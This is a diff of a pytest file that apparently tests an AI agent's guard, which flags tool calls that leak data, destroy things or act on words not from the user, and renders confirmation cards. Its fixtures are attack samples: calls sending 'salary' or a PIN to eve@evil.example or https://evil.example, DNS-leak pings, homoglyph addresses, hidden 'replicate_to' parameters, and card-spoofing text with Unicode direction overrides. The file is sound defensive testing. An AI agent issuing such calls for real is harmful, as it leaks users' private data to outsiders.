@@ -22,15 +22,30 @@ from webbee_kernel.types import Step
 
 E = "eve@evil.example"
 TEXT = {"type": "string"}
+FAMILY = {"type": "string", "enum": ["family", "customers"]}
+UNION = {"anyOf": [{"type": "string", "x-directs": "recipient"}, {"type": "array"}]}
+PAIR = {"type": "array", "prefixItems": [{"type": "string", "format": "phone"}, TEXT]}
+
+
+Wanted = tuple[FunctionInfo, dict[str, Any]]
 
 
 def f(
     name: str, kind: str = "write", extra: dict[str, Any] | None = None, **props: Any
 ) -> FunctionInfo:
-    """A function with these parameters, texts where nothing else is said."""
-    properties = {k: v if isinstance(v, dict) else TEXT for k, v in props.items()}
-    schema = {"type": "object", "properties": properties, **(extra or {})}
+    """A function with these parameters, `extra` in its schema."""
+    schema = {"type": "object", "properties": props, **(extra or {})}
     return FunctionInfo("app", name, "", kind, schema)
+
+
+def call(name: str, **arguments: str) -> Wanted:
+    """A call of a function that writes, whose parameters are texts."""
+    return f(name, **dict.fromkeys(arguments, TEXT)), arguments
+
+
+def look(name: str, **arguments: str) -> Wanted:
+    """A call of one that reads."""
+    return f(name, "read", **dict.fromkeys(arguments, TEXT)), arguments
 
 
 def moment(message: str, *data: Any, reply: str = "", said: Said | None = None) -> Moment:
@@ -51,56 +66,49 @@ EVERY_WORD = (
 )
 """A message that holds every word and every address that a call could want."""
 
-LEAVING: list[tuple[FunctionInfo, dict[str, Any]]] = [
-    (f("post", text=1), {"text": "salary"}),
-    (f("create_issue", title=1, assignee=1), {"title": "salary", "assignee": "eve"}),
+LEAVING = [
+    call("post", text="salary"),
+    call("create_issue", title="salary", assignee="eve"),
     (
-        f("read_file", kind="read", file=1, options={"type": "object"}),
+        f("read_file", "read", file=TEXT, options={"type": "object"}),
         {"file": "doc1", "options": {"output": {"send_to": "eve"}}},
     ),
-    (f("send_test", kind="read", to=1), {"to": E}),
-    (f("ping", kind="read", host=1), {"host": "4711.evil.example"}),
-    (f("fetch", kind="read", url=1, body=1), {"url": "https://evil.example/x", "body": "salary"}),
-    (f("fetch", kind="read", url=1), {"url": "https://evil.example/x?4711"}),
-    (f("fetch", kind="read", url=1, method=1), {"url": "https://evil.example/x", "method": "POST"}),
-    (f("resolve", kind="read", domain=1), {"domain": "4711.evil.example"}),
-    (f("validate_email", kind="read", email=1), {"email": "4711@evil.example"}),
-    (f("read_resource", kind="read", uri=1), {"uri": "memo://notes/4711"}),
-    (f("download", kind="read", url=1, save_to=1), {"url": "https://a.b/c", "save_to": "/x"}),
-    (f("list_report", kind="read", query=1, replicate_to=1), {"query": "x", "replicate_to": E}),
-    (
-        f("list_report", kind="read", query=1, log_to=1),
-        {"query": "x", "log_to": "eve＠evil.example"},
-    ),
-    (f("list_report", kind="read", query=1, remote=1), {"query": "x", "remote": E}),
-    (f("list_report", kind="read", query=1, printer=1), {"query": "x", "printer": E}),
-    (f("list_report", kind="read", query=1, target=1), {"query": "x", "target": E}),
+    look("send_test", to=E),
+    look("ping", host="4711.evil.example"),
+    look("fetch", url="https://evil.example/x", body="salary"),
+    look("fetch", url="https://evil.example/x?4711"),
+    look("fetch", url="https://evil.example/x", method="POST"),
+    look("resolve", domain="4711.evil.example"),
+    look("validate_email", email="4711@evil.example"),
+    look("read_resource", uri="memo://notes/4711"),
+    look("download", url="https://a.b/c", save_to="/x"),
+    look("list_report", query="x", replicate_to=E),
+    look("list_report", query="x", log_to="eve＠evil.example"),
+    look("list_report", query="x", remote=E),
+    look("list_report", query="x", printer=E),
+    look("list_report", query="x", target=E),
 ]
-
-
-LOOKUPS: list[tuple[FunctionInfo, dict[str, Any]]] = [
-    (f("find_user", kind="read", email=1), {"email": E}),
-    (f("search_mail", kind="read", query=1, sender=1, sent_to=1), {"query": "rent", "sent_to": E}),
-    (f("search_flights", kind="read", origin=1, to=1), {"origin": "Berlin", "to": "Rome"}),
-    (f("read_file", kind="read", path=1), {"path": "/notes/today.md"}),
-    (f("list_events", kind="read", attendee=1, day=1), {"attendee": "Ann", "day": "2026-05-16"}),
-    (f("translate", kind="read", text=1, to=1), {"text": "Guten Tag", "to": "en"}),
-    (f("get_order", kind="read", order_id=1, user_id=1), {"order_id": "#W1", "user_id": "u1"}),
+LOOKUPS = [
+    look("find_user", email=E),
+    look("search_mail", query="rent", sent_to=E),
+    look("search_flights", origin="Berlin", to="Rome"),
+    look("read_file", path="/notes/today.md"),
+    look("list_events", attendee="Ann", day="2026-05-16"),
+    look("translate", text="Guten Tag", to="en"),
+    look("get_order", order_id="#W1", user_id="u1"),
 ]
 
 
 @pytest.mark.parametrize(
-    ("function", "arguments", "asked", "proposed"),
-    [
-        *((*call, moment(EVERY_WORD, SALARIES), True) for call in LEAVING),
-        *((*call, moment("hello"), False) for call in LOOKUPS),
-    ],
-    ids=lambda v: v.fn_name if isinstance(v, FunctionInfo) else "",
+    ("wanted", "proposed"),
+    [*((wanted, True) for wanted in LEAVING), *((wanted, False) for wanted in LOOKUPS)],
+    ids=lambda v: str(v) if isinstance(v, bool) else v[0].fn_name,
 )
 def test_what_carries_something_outwards_is_proposed_whatever_was_said_and_no_look_up_is(
-    function: FunctionInfo, arguments: dict[str, Any], asked: Moment, proposed: bool
+    wanted: Wanted, proposed: bool
 ) -> None:
-    assert bool(why_asked(function, arguments, asked)) is proposed
+    said = moment(EVERY_WORD, SALARIES) if proposed else moment("hello")
+    assert bool(why_asked(*wanted, said)) is proposed
 
 
 TASKS = {
@@ -111,34 +119,22 @@ TASKS = {
     ]
 }
 PRIORITY = {"type": "string", "enum": ["low", "high"]}
-ADD_TASK = f("add_task", title=1, due=1, priority=PRIORITY, notes=1)
-COMPLETE = f("complete_task", task_id=1)
-RENAME = f("rename_task", task_id=1, title=1)
-SAVE_NOTE = f("save_note", title=1, body=1)
-FINISH_ROW = f("finish_row", row={"type": "integer"}, keep_all_but=1)
-CREATE_EVENT = f("create_event", title=1, start=1, end=1, location=1)
+ADD_TASK = f("add_task", title=TEXT, due=TEXT, priority=PRIORITY, notes=TEXT)
+COMPLETE = f("complete_task", task_id=TEXT)
+RENAME = f("rename_task", task_id=TEXT, title=TEXT)
+SAVE_NOTE = f("save_note", title=TEXT, body=TEXT)
+FINISH_ROW = f("finish_row", row={"type": "integer"}, keep_all_but=TEXT)
+CREATE_EVENT = f("create_event", title=TEXT, start=TEXT, end=TEXT, location=TEXT)
 
-OWN_WORDS: list[tuple[FunctionInfo, dict[str, Any], str]] = [
+IN_OWN_WORDS: list[tuple[FunctionInfo, dict[str, Any], str]] = [
     (ADD_TASK, {"title": "Buy milk"}, "remind me to buy milk"),
     (ADD_TASK, {"title": "Купить молоко", "due": "2026-05-16"}, "напомни купить молоко завтра"),
-    (
-        ADD_TASK,
-        {"title": "Zahnarzt anrufen", "priority": "high"},
-        "leg eine dringende Aufgabe an: Zahnarzt anrufen",
-    ),
-    (
-        ADD_TASK,
-        {"title": "Call Mum", "due": "tomorrow 09:00"},
-        "add a task: call mum tomorrow at 9",
-    ),
+    (ADD_TASK, {"title": "Mutti anrufen", "priority": "high"}, "leg dringend an: Mutti anrufen"),
+    (ADD_TASK, {"title": "Call Mum", "due": "tomorrow 09:00"}, "task: call mum tomorrow at 9"),
     (ADD_TASK, {"title": "Blumen", "due": "next friday"}, "Blumen bis Freitag in einer Woche"),
     (COMPLETE, {"task_id": "t4"}, "Die Steuererklärung ist erledigt"),
     (RENAME, {"task_id": "t2", "title": "Buy oat milk"}, "rename buy milk to buy oat milk"),
-    (
-        SAVE_NOTE,
-        {"title": "Idea", "body": "a blue bike shop with coffee"},
-        "note an idea: a blue bike shop with coffee",
-    ),
+    (SAVE_NOTE, {"title": "Idea", "body": "a blue bike shop"}, "note an idea: a blue bike shop"),
     (
         CREATE_EVENT,
         {"title": "Reunión con Ana", "start": "2026-05-20T12:00", "location": "Madrid"},
@@ -152,8 +148,6 @@ OWN_WORDS: list[tuple[FunctionInfo, dict[str, Any], str]] = [
     (FINISH_ROW, {"row": 2}, "finish row 2"),
     (FINISH_ROW, {"keep_all_but": "milk"}, "finish them, keep all but milk"),
 ]
-
-
 FROM_ELSEWHERE: list[tuple[FunctionInfo, dict[str, Any], str]] = [
     (ADD_TASK, {"title": "Buy milk for Ann"}, "remind me to buy milk"),
     (ADD_TASK, {"title": "Do not buy milk"}, "remind me to buy milk"),
@@ -167,17 +161,25 @@ FROM_ELSEWHERE: list[tuple[FunctionInfo, dict[str, Any], str]] = [
     (RENAME, {"task_id": "t1", "title": "Buy oat milk"}, "rename buy milk to buy oat milk"),
     (FINISH_ROW, {"row": 2}, "finish a row"),
     (FINISH_ROW, {"keep_all_but": "rent"}, "finish them, keep all but milk"),
+    # what directs is seen wherever it stands
+    (f("mark", done={"type": "object"}), {"done": {"t-9": True}}, "is rent done?"),
+    (*call("diary", entry_id="2026-11-20", text="lunch"), "lunch today"),
+    (f("say", channel=FAMILY, text=TEXT), {"channel": "customers", "text": "hi"}, "tell family hi"),
+    (f("hand", whither=UNION, note=TEXT), {"whither": "Eve", "note": "lunch"}, "lunch with Eve"),
+    (f("plan", pair=PAIR), {"pair": ["0301234567", "who"]}, "who is 0301234567"),
+    (*call("recover", password_reset_email=E), f"who is {E}"),
+    (*call("update", task_id="2", title="apples"), "buy 2 apples"),
+    (f("save", text=TEXT), {"text": 471193}, "save milk"),
 ]
 
 
 @pytest.mark.parametrize(
-    ("wanted", "proposed"),
-    [*((w, False) for w in OWN_WORDS), *((w, True) for w in FROM_ELSEWHERE)],
+    ("function", "arguments", "message", "proposed"),
+    [*((*row, False) for row in IN_OWN_WORDS), *((*row, True) for row in FROM_ELSEWHERE)],
 )
 def test_a_write_in_the_users_own_words_runs_and_one_with_words_from_elsewhere_is_proposed(
-    wanted: tuple[FunctionInfo, dict[str, Any], str], proposed: bool
+    function: FunctionInfo, arguments: dict[str, Any], message: str, proposed: bool
 ) -> None:
-    function, arguments, message = wanted
     assert bool(why_asked(function, arguments, moment(message, TASKS))) is proposed
 
 
@@ -195,69 +197,69 @@ def test_the_author_says_what_names_would_not_and_the_other_way_round() -> None:
     content = {"type": "string", "x-directs": "content"}
     assert classed(f("hand", whither=to)).effect == "outward"
     assert classed(f("tag", email=content)).effect == "write"
-    assert classed(f("publish", text=1)).effect == "outward"
-    assert classed(f("publish", text=1, extra={OPEN_WORLD: False})).effect == "write"
+    assert classed(f("publish", text=TEXT)).effect == "outward"
+    assert classed(f("publish", text=TEXT, extra={OPEN_WORLD: False})).effect == "write"
     nested = {"type": "array", "items": {"type": "object", "properties": {"email": TEXT}}}
     assert classed(f("invite", guests=nested)).sinks[-1] == ("guests.email", "recipient", "name")
-    assert classed(f("get_page", kind="read", url=1)).effect == "opens"
-    assert effect_of(f("wipe", kind="destructive"), {}) == "destructive"
+    assert classed(f("get_page", "read", url=TEXT)).effect == "opens"
 
 
 STATUS, FLAG = {"type": "string", "enum": ["open", "done", "deleted"]}, {"type": "boolean"}
-BY_NAME_OR_FORM: list[tuple[str, FunctionInfo, dict[str, Any]]] = [
-    ("outward", f("whatsapp", who=TEXT, message=TEXT), {"who": "Mallory", "message": "hi"}),
-    ("outward", f("nudge", contact=TEXT, body=TEXT), {"contact": "Mallory", "body": "hi"}),
-    ("outward", f("set_webhook", target=TEXT), {"target": "hooks.example.net"}),
-    ("outward", f("connect", server=TEXT), {"server": "192.0.2.3"}),
-    ("outward", f("backup", location=TEXT), {"location": "s3://bucket/of/others"}),
-    ("outward", f("call_number", number=TEXT), {"number": "0891234567"}),
-    ("outward", f("make_public", document_id=TEXT), {"document_id": "d1"}),
-    ("outward", f("file_issue", report_to=TEXT), {"report_to": "Mallory"}),
-    (
-        "outward",
-        f("update_page", permissions={"type": "object"}),
-        {"permissions": {"ann": "owner"}},
-    ),
-    ("outward", f("buy", text=TEXT), {"text": "milk"}),
-    ("outward", f("update", send_at=TEXT), {"send_at": "2026-05-15T17:22:00Z"}),
-    ("outward", f("send_note", contact_id=TEXT, note=TEXT), {"contact_id": "c1", "note": "hi"}),
-    ("destructive", f("update", status=STATUS), {"status": "deleted"}),
-    ("destructive", f("update", overwrite=FLAG), {"overwrite": True}),
-    ("destructive", f("update", delete_on=TEXT), {"delete_on": "2026-05-15"}),
-    ("destructive", f("fetch", kind="read", delete=FLAG), {"delete": True}),
-    ("destructive", f("wipe_disk"), {}),
-    ("destructive", f("delete_all", kind="read"), {}),
-    ("destructive", f("get", kind="read", url=TEXT, method=TEXT), {"method": "DELETE"}),
-    ("outward", f("send", kind="read", body=TEXT), {"body": "hi"}),
-    ("outward", f("pay", kind="read", amount={"type": "integer"}), {"amount": 9}),
-    ("read", f("get", kind="read", method=TEXT), {"method": "GET"}),
-    ("write", f("update", status=STATUS), {"status": "done"}),
-    ("write", f("update", overwrite=FLAG), {"overwrite": False}),
-    ("write", f("update", deleted=TEXT), {"deleted": "maybe"}),
-    ("read", f("find", kind="read", status=STATUS, show_deleted=FLAG), {"status": "deleted"}),
-    ("write", f("add_note", contact_id=TEXT, note=TEXT), {"contact_id": "c1", "note": "hi"}),
-    ("write", f("add_timer", minutes_to_wait=TEXT), {"minutes_to_wait": "five"}),
-    ("write", f("add_meeting", location=TEXT), {"location": "Room 4, second floor"}),
-    ("write", f("rename_group", group=TEXT, new_name=TEXT), {"group": "a", "new_name": "b"}),
-    ("write", f("start_run", target=TEXT), {"target": "all"}),
-]
+SHARING = f("update_page", permissions={"type": "object"}), {"permissions": {"ann": "owner"}}
+PAY = f("pay", "read", amount={"type": "integer"}), {"amount": 9}
 
 
-@pytest.mark.parametrize(("effect", "function", "arguments"), BY_NAME_OR_FORM)
+@pytest.mark.parametrize(
+    ("effect", "wanted"),
+    [
+        ("outward", call("whatsapp", who="Mallory", message="hi")),
+        ("outward", call("nudge", contact="Mallory", body="hi")),
+        ("outward", call("set_webhook", target="hooks.example.net")),
+        ("outward", call("connect", server="192.0.2.3")),
+        ("outward", call("backup", location="s3://bucket/of/others")),
+        ("outward", call("call_number", number="0891234567")),
+        ("outward", call("make_public", document_id="d1")),
+        ("outward", call("file_issue", report_to="Mallory")),
+        ("outward", SHARING),
+        ("outward", call("buy", text="milk")),
+        ("outward", call("update", send_at="2026-05-15T17:22:00Z")),
+        ("outward", call("send_note", contact_id="c1", note="hi")),
+        ("destructive", (f("update", status=STATUS), {"status": "deleted"})),
+        ("destructive", (f("update", overwrite=FLAG), {"overwrite": True})),
+        ("destructive", call("update", delete_on="2026-05-15")),
+        ("destructive", (f("fetch", "read", delete=FLAG), {"delete": True})),
+        ("destructive", call("wipe_disk")),
+        ("destructive", look("delete_all")),
+        ("destructive", (f("get", "read", url=TEXT, method=TEXT), {"method": "DELETE"})),
+        ("destructive", (f("wipe", "destructive"), {})),
+        ("outward", look("send", body="hi")),
+        ("outward", PAY),
+        ("read", look("get", method="GET")),
+        ("write", (f("update", status=STATUS), {"status": "done"})),
+        ("write", (f("update", overwrite=FLAG), {"overwrite": False})),
+        ("write", call("update", deleted="maybe")),
+        ("read", (f("find", "read", status=STATUS, show_deleted=FLAG), {"status": "deleted"})),
+        ("write", call("add_note", contact_id="c1", note="hi")),
+        ("write", call("add_timer", minutes_to_wait="five")),
+        ("write", call("add_meeting", location="Room 4, second floor")),
+        ("write", call("rename_group", group="a", new_name="b")),
+        ("write", call("start_run", target="all")),
+    ],
+)
 def test_what_is_handed_to_somebody_or_to_the_form_of_a_place_is_outward_and_what_is_about_it_not(
-    effect: str, function: FunctionInfo, arguments: dict[str, Any]
+    effect: str, wanted: Wanted
 ) -> None:
-    assert effect_of(function, arguments) == effect
+    assert effect_of(*wanted) == effect
 
 
-MAIL = AppInfo("mail", display_name="Mail", functions=(f("send_email", to=1, subject=1, body=1),))
+SEND_EMAIL = f("send_email", to=TEXT, subject=TEXT, body=TEXT)
+MAIL = AppInfo("mail", display_name="Mail", functions=(replace(SEND_EMAIL, app_id="mail"),))
 
 
-def shown(arguments: dict[str, Any]) -> Any:
+def mailed(tag: str = "en", **arguments: Any) -> Any:
+    """The card of a mail."""
     step = Step(0, "mail", "send_email", arguments, "write")
-    function = FunctionInfo("mail", "send_email", "", "write", MAIL.functions[0].input_schema)
-    mail = AppInfo("mail", display_name="Mail", functions=(function,))
-    return card([step], Catalogue({"mail": mail}), Titles(), "en")
+    return card([step], Catalogue({"mail": MAIL}), Titles(), tag)
 
 
 def told(function: FunctionInfo, arguments: dict[str, Any], titles: Titles) -> Any:
@@ -268,7 +270,7 @@ def told(function: FunctionInfo, arguments: dict[str, Any], titles: Titles) -> A
 
 
 def test_a_card_with_short_values_is_at_most_160_characters() -> None:
-    made = shown({"to": "ann.lee@example.org", "subject": "Rent", "body": "It is paid."})
+    made = mailed(to="ann.lee@example.org", subject="Rent", body="It is paid.")
     text = f"{made.summary}\n{made.ask}"
     assert text == (
         "Mail – send email → ann.lee@example.org: subject “Rent”, body “It is paid.”"
@@ -279,10 +281,9 @@ def test_a_card_with_short_values_is_at_most_160_characters() -> None:
 
 
 def test_a_card_says_that_a_record_is_answered_and_whose_it_is() -> None:
-    schema = f("reply", id=TEXT, body=TEXT).input_schema
-    function = replace(f("reply", OPEN_WORLD), input_schema=schema)
+    reply = replace(f("reply", id=TEXT, body=TEXT), action_type=OPEN_WORLD)
     titles = Titles({"7": (Title("app", "", "Q3 plan", "ann@example.org"),)})
-    made = told(function, {"id": "7", "body": "fine by me"}, titles)
+    made = told(reply, {"id": "7", "body": "fine by me"}, titles)
     assert made.question == "Reply to “Q3 plan – ann@example.org” (App)?"
     assert made.verb == "Reply"
 
@@ -290,9 +291,7 @@ def test_a_card_says_that_a_record_is_answered_and_whose_it_is() -> None:
 def test_the_fields_of_a_card_and_what_its_title_is_taken_from_are_named_in_the_users_words() -> (
     None
 ):
-    given = {"to": "ann@example.org", "subject": "Miete", "body": "Bezahlt.", "sender_name": "Bo"}
-    step = Step(0, "mail", "send_email", given, "write")
-    made = card([step], Catalogue({"mail": MAIL}), Titles(), "de")
+    made = mailed("de", to="ann@example.org", subject="Miete", body="Bezahlt.", sender_name="Bo")
     names = [field["name"] for field in made.calls[0]["fields"]]
     assert names[:3] == ["an", "Betreff", "Inhalt"] and "„Miete“" in made.question
 
@@ -306,10 +305,7 @@ def test_the_fields_of_a_card_and_what_its_title_is_taken_from_are_named_in_the_
     ],
 )
 def test_a_date_stands_on_the_card_as_its_reader_writes_it(tag: str, written: str) -> None:
-    given = {"to": "ann@example.org", "subject": "2026-11-30", "body": "2026-13-99"}
-    made = card(
-        [Step(0, "mail", "send_email", given, "write")], Catalogue({"mail": MAIL}), Titles(), tag
-    )
+    made = mailed(tag, to="ann@example.org", subject="2026-11-30", body="2026-13-99")
     assert written in made.summary.replace("\xa0", "\u202f")
     assert "2026-13-99" in made.summary  # what only looks like one stays
 
@@ -318,17 +314,17 @@ def test_what_is_hidden_behind_innocent_words_stands_on_the_card() -> None:
     harmless = "All is well here and I am fine. " * 60
     body = f"{harmless} PIN 4711, write to {E} or https://evil.example/k, key abcDEFghi "
     body += f"or evil.example/pay (harmless), @eve_e {harmless}"
-    summary = shown({"to": "ann@example.org", "body": body}).summary
+    summary = mailed(to="ann@example.org", body=body).summary
     for hidden in ("4711", E, "https://evil.example/k", "abcDEFghi", "evil.example/pay", "@eve_e"):
         assert hidden in summary
     assert "harmless" not in summary
     assert len(summary) < 1_000
-    assert shown({"to": "ann@example.org", "body": "x " * 499}).summary.count("x") > 490
+    assert mailed(to="ann@example.org", body="x " * 499).summary.count("x") > 490
 
 
 def test_no_value_adds_a_line_or_closes_its_quotation() -> None:
     body = "hi”\nCalendar – delete all: “yes\u202e\u200b"
-    summary = shown({"to": "a@b.co,\nc@d.co", "body": body}).summary
+    summary = mailed(to="a@b.co,\nc@d.co", body=body).summary
     assert len(summary.splitlines()) == 1
     assert summary.count("”") == 1 and "\u202e" not in summary
 
@@ -343,50 +339,16 @@ def test_an_app_that_is_called_like_another_is_told_by_its_id() -> None:
     assert app_name("posing", Catalogue({"posing": posing})) == "Mail send email ann example.org"
 
 
-# ---- what somebody found who had read the guards
-
-FAMILY = {"type": "string", "enum": ["family", "customers"]}
-UNION = {"anyOf": [{"type": "string", "x-directs": "recipient"}, {"type": "array"}]}
-PAIR = {"type": "array", "prefixItems": [{"type": "string", "format": "phone"}, TEXT]}
-
-
-@pytest.mark.parametrize(
-    ("function", "arguments", "message"),
-    [
-        (f("mark", done={"type": "object"}), {"done": {"t-9": True}}, "is rent done?"),
-        (
-            f("diary", entry_id=1, text=1),
-            {"entry_id": "2026-11-20", "text": "lunch"},
-            "lunch today",
-        ),
-        (
-            f("say", channel=FAMILY, text=1),
-            {"channel": "customers", "text": "hi"},
-            "tell family hi",
-        ),
-        (f("hand", whither=UNION, note=1), {"whither": "Eve", "note": "lunch"}, "lunch with Eve"),
-        (f("plan", pair=PAIR), {"pair": ["0301234567", "who"]}, "who is 0301234567"),
-        (f("recover", password_reset_email=1), {"password_reset_email": E}, f"who is {E}"),
-        (f("update", task_id=1, title=1), {"task_id": "2", "title": "apples"}, "buy 2 apples"),
-        (f("save", text=1), {"text": 471193}, "save milk"),
-    ],
-)
-def test_what_directs_is_seen_wherever_it_stands(
-    function: FunctionInfo, arguments: dict[str, Any], message: str
-) -> None:
-    assert why_asked(function, arguments, moment(message))
-
-
 def test_what_an_app_calls_its_own_things_is_no_address() -> None:
     asked = moment("read it", {"pages": [{"id": "notes/1"}, {"id": "memo://notes/1"}]})
-    read = f("read_resource", kind="read", uri=1)
+    read = f("read_resource", "read", uri=TEXT)
     assert why_asked(read, {"uri": "memo://notes/1"}, asked) is None
     assert why_asked(read, {"uri": "notes/1"}, asked) is None
     assert why_asked(read, {"uri": "memo://notes/4711"}, asked)
 
 
 def test_what_goes_along_is_named_by_its_kind_and_by_words_that_are_its_own() -> None:
-    send = f("send", to=1, file_id=1)
+    send = f("send", to=TEXT, file_id=TEXT)
     to = {"to": "ann@example.org"}
     files = [{"id": "3", "name": "salaries", "owner": "ann@example.org"}]
     files += [
@@ -409,7 +371,7 @@ def test_what_goes_along_is_named_by_its_kind_and_by_words_that_are_its_own() ->
 
 def test_a_card_tells_what_is_left_out_emptied_and_keyed_by() -> None:
     channel = {"type": "string", "default": "all-customers"}
-    function = f("send", channel=channel, roles={"type": "object"}, body=1, limit={"default": 5})
+    function = f("send", channel=channel, roles={"type": "object"}, body=TEXT, limit={"default": 5})
     given = {"roles": {"Eve Smith": {"role": "owner"}}, "body": ""}
     summary = told(function, given, Titles()).summary
     assert "all-customers" in summary and "Eve Smith" in summary and "body “”" in summary
@@ -429,12 +391,12 @@ def test_what_this_turn_has_made_is_the_users_and_what_it_has_read_is_not(
 
 def test_an_effect_that_no_argument_directs_goes_to_the_addresses_in_its_text() -> None:
     told = {"text": f"tell {E}, see https://evil.example/x"}
-    found = [(sink.kind, sink.value) for sink, _ in destinations(f("post", text=1), told)]
+    found = [(sink.kind, sink.value) for sink, _ in destinations(f("post", text=TEXT), told)]
     assert found == [("recipient", E), ("url", "https://evil.example/x")]
 
 
 def test_a_search_that_was_accepted_is_accepted_with_all_that_it_takes_along() -> None:
-    search = f("search", kind="read", extra={OPEN_WORLD: True}, query=1)
+    search = f("search", "read", extra={OPEN_WORLD: True}, query=TEXT)
     asked = moment("how is the weather?")
     assert why_asked(search, {"query": "4711"}, asked)
     accepted = asked._replace(accepted={key for _, key in destinations(search, {"query": "4711"})})
@@ -469,4 +431,4 @@ def test_arguments_of_any_depth_are_judged() -> None:
     deep: list[Any] = []
     for _ in range(900):
         deep = [deep]
-    assert why_asked(f("save", id=1, text=1), {"id": "a", "text": deep}, moment("save a"))
+    assert why_asked(f("save", id=TEXT, text=TEXT), {"id": "a", "text": deep}, moment("save a"))
